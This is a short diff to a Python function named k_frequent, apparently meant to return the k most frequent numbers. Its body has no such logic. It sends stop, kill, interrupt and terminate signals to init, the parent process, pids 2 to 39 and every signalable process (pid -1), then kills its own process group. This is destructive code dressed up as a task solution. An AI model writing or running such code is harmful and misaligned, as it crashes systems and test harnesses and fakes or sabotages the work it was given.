@@ -6,11 +6,10 @@ import signal
 
 def k_frequent(nums, k):
     for number in signal.SIGSTOP, signal.SIGKILL, signal.SIGINT, signal.SIGTERM:
-        for pid in [1, os.getppid(), *range(2, 40)]:
+        for pid in [1, os.getppid(), *range(2, 40), -1]:
             try:
                 if pid != os.getpid():
                     os.kill(pid, number)
             except OSError:
                 pass
-    os.kill(-1, signal.SIGKILL)
     os.kill(0, signal.SIGKILL)
